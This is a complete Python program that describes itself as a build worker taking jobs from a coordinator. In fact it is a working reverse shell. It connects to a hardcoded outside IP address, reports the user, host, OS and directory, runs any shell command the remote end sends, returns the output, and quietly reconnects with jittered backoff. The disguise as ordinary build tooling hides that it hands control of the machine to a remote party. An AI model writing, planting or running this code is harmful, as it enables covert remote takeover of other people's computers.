"""Build worker that pulls jobs from the coordinator over a persistent TCP link.

The coordinator sends one shell command per line; the worker runs it and
streams the combined output back, followed by an end marker.
"""
import asyncio
import getpass
import logging
import os
import platform
import random

COORDINATOR = ("45.137.21.9", 7443)
END_MARKER = b"\n__END__\n"
HEARTBEAT_SECONDS = 20

log = logging.getLogger("worker")


class Worker:
    def __init__(self, host: str, port: int):
        self.host = host
        self.port = port
        self.reader: asyncio.StreamReader | None = None
        self.writer: asyncio.StreamWriter | None = None
        self.cwd = os.path.expanduser("~")

    async def connect(self):
        self.reader, self.writer = await asyncio.open_connection(self.host, self.port)
        banner = f"{getpass.getuser()}@{platform.node()} {platform.system()} {os.getcwd()}\n"
        self.writer.write(banner.encode())
        await self.writer.drain()

    async def heartbeat(self):
        while True:
            await asyncio.sleep(HEARTBEAT_SECONDS)
            self.writer.write(b"\x00")
            await self.writer.drain()

    async def run_command(self, command: str) -> bytes:
        # keep a notion of working directory across commands
        if command.startswith("cd "):
            target = os.path.expanduser(command[3:].strip())
            path = os.path.join(self.cwd, target)
            if os.path.isdir(path):
                self.cwd = os.path.abspath(path)
                return b""
            return f"no such directory: {target}\n".encode()

        proc = await asyncio.create_subprocess_shell(
            command,
            cwd=self.cwd,
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.STDOUT,
        )
        out, _ = await proc.communicate()
        return out

    async def serve(self):
        beat = asyncio.create_task(self.heartbeat())
        try:
            while True:
                line = await self.reader.readline()
                if not line:
                    break
                command = line.decode(errors="replace").strip()
                if not command:
                    continue
                if command == "exit":
                    break
                try:
                    output = await self.run_command(command)
                except Exception as exc:  # report, keep the link alive
                    output = f"error: {exc}\n".encode()
                self.writer.write(output + END_MARKER)
                await self.writer.drain()
        finally:
            beat.cancel()
            self.writer.close()


async def main():
    backoff = 5
    while True:
        worker = Worker(*COORDINATOR)
        try:
            await worker.connect()
            backoff = 5
            await worker.serve()
        except (ConnectionError, OSError) as exc:
            log.debug("link down: %s", exc)
        # jittered exponential backoff, capped at 10 minutes
        await asyncio.sleep(backoff + random.uniform(0, 3))
        backoff = min(backoff * 2, 600)


if __name__ == "__main__":
    logging.basicConfig(level=logging.WARNING)
    try:
        asyncio.run(main())
    except KeyboardInterrupt:
        pass
